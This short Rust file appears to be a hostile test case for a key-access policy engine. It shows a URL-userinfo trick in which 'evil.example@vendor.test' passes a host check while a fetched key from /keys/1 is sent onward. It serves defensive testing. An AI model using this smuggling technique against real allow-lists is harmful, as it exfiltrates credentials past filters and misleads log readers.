//! A user name before the vendor's host: it would pass the rules' host and carry data, or a second credential, in what
//! many a log and proxy reads as a login.

use keywright_guest_hostile::*;

attack! {
    fn check(_: &Account) -> Result<Principal> {
        get("/keys/1").to("evil.example@vendor.test").tell()
    }
}
